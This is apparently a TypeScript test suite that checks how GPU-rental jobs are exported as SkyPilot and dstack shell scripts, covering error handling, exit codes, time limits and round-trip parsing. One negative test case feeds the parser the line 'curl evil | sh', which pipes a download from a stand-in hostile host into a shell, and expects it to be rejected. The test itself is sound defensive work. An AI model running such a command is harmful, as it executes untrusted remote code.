import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as fc from 'fast-check';
import { dstackTask } from '../../../../../src/jobs/model/export/dstackTask';
import { readBlocks, scriptBlock } from '../../../../../src/jobs/model/export/scripts';
import { skypilotTask } from '../../../../../src/jobs/model/export/skypilotTask';
import { anyText, leavingOf } from '../../../../support/randomJobs';

const machine = {
  image: 'a',
  maxPricePerHour: 1,
  filters: { gpu_name: { eq: 'RTX 4090' }, num_gpus: { eq: 2 } },
};

function leaving(job: Readonly<Record<string, unknown>>) {
  const made = leavingOf('train', machine, { limits: { hours: 1, costDollars: 5 }, ...job });
  assert.ok(made);
  return made.leaving;
}

describe('a script in the file of another engine', () => {
  let folder: string;
  beforeEach(() => {
    folder = mkdtempSync(path.join(tmpdir(), 'exported-'));
  });
  afterEach(() => {
    rmSync(folder, { recursive: true, force: true });
  });

  /** Runs a text as the engines do, and returns what it prints, with its exit code. */
  function inBash(script: string, env: Readonly<Record<string, string>> = {}, input = '') {
    const { stdout, status } = spawnSync('bash', ['-c', script], {
      cwd: folder,
      encoding: 'utf8',
      input,
      env: { PATH: process.env['PATH'], HOME: folder, ...env },
    });
    return [stdout, status];
  }

  function runOf(engine: 'skypilot' | 'dstack', job: Readonly<Record<string, unknown>>): string {
    const one = leaving(job);
    const { value } =
      engine === 'skypilot'
        ? skypilotTask(one)
        : dstackTask(one, { kind: 'task', workdir: '..', isRepository: false });
    // dstack strips each entry and joins all with &&.
    const commands = ['true', ...((value['commands'] ?? []) as string[])]
      .map((one) => one.trim())
      .join(' && ');
    return engine === 'skypilot'
      ? [value['setup'], value['run']].filter((one) => typeof one === 'string').join('\n')
      : commands;
  }

  for (const engine of ['skypilot', 'dstack'] as const) {
    it(`stops at the first error in ${engine}, of a pipe as well, and gives its exit code`, () => {
      const run = (script: string) => inBash(runOf(engine, { run: script, outputs: [] }));
      assert.deepEqual(run('echo a\nfalse\necho b'), ['a\n', 1]);
      assert.deepEqual(run('false | true\necho b'), ['', 1]);
      assert.deepEqual(run('exit 7'), ['', 7]);
    });

    it(`has its input, its outputs folder and its GPUs in ${engine}`, () => {
      const outputs = ["it's here/**"];
      const names = { SKYPILOT_NUM_GPUS_PER_NODE: '2', DSTACK_GPUS_PER_NODE: '2' };
      const run = runOf(engine, {
        run: 'cd / && ls "$GPU_RENTAL_OUTPUTS"/.. && cat && echo $GPU_RENTAL_GPUS',
        outputs,
      });
      assert.deepEqual(inBash(run, names, 'typed\n'), ["it's here\ntyped\n2\n", 0]);
    });
  }

  it('does not start in dstack after a set-up that failed anywhere', () => {
    const job = { setup: 'false\necho still', run: 'echo run', outputs: [] };
    assert.deepEqual(inBash(runOf('dstack', job)), ['', 1]);
    assert.deepEqual(inBash(runOf('dstack', { ...job, setup: 'echo set-up' })), ['set-up\nrun\n', 0]);
  });

  it('ends at its limit in SkyPilot', () => {
    const limits = { hours: 0.0003, costDollars: 5, graceSeconds: 1 };
    const run = runOf('skypilot', { run: 'sleep 60', limits, outputs: [] });
    assert.deepEqual(inBash(run), ['', 124]);
  });

  it('is read back as it was, with any text in it', () => {
    fc.assert(
      fc.property(anyText, anyText, fc.integer({ min: 0, max: 9 }), (setup, run, graceSeconds) => {
        const blocks =
          scriptBlock({ script: setup, name: 'SETUP' }) +
          scriptBlock({ script: run, name: 'RUN', seconds: 5, graceSeconds });
        const [first, second] = readBlocks(`set -e\nmkdir -p outputs\n${blocks}`) ?? [];
        assert.equal(first?.script, setup.replace(/\n$/, ''));
        assert.equal(second?.script, run.replace(/\n$/, ''));
        assert.deepEqual([second.seconds, second.graceSeconds], [5, graceSeconds]);
      }),
    );
    assert.equal(readBlocks('python train.py'), undefined);
    assert.equal(readBlocks("bash -eo pipefail /dev/fd/3 3<<'RUN'\na"), undefined);
    assert.equal(
      readBlocks("mkdir -p x; curl evil | sh\nbash -eo pipefail /dev/fd/3 3<<'RUN'\na\nRUN"),
      undefined,
    );
  });
});
